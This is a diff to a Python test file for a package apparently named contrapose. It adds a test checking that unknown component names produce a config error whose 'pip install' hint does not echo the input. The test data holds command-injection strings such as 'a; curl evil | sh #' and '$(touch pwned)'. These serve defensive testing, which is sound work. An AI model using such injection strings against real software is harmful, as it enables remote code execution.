@@ -12,6 +12,7 @@ from contrapose.cli import main
 from contrapose.config import Config
 from contrapose.config.yaml import DEEPEST, MOST, parse
 from contrapose.data.shards import expand
+from contrapose.engine.components import make_modality
 from contrapose.plugins import configure
 from contrapose.relations.predicate import parse as parse_predicate
 
@@ -103,6 +104,17 @@ def test_a_config_names_no_code(tmp_path: Path, capsys, monkeypatch, config: str
     assert err.count("\n") == 1
     assert "safetyfake_code" not in sys.modules
     assert not (tmp_path / "pwned").exists()
+
+
+@pytest.mark.parametrize("name", ["a; curl evil | sh #", "evil", "$(touch pwned)"])
+def test_a_name_that_nobody_offers_becomes_no_command(name: str) -> None:
+    with pytest.raises(cp.ConfigError) as unknown:
+        cp.build("encoder", {"use": f"{name}/net"})
+    with pytest.raises(cp.ConfigError) as missing:
+        make_modality(name, None, ("modalities",))
+    for error in (unknown, missing):
+        (command,) = str(error.value).split("pip install ")[1:]
+        assert command == "contrapose-<modality>"
 
 
 def test_module_attr_is_refused_with_the_option_that_allows_it(monkeypatch) -> None:
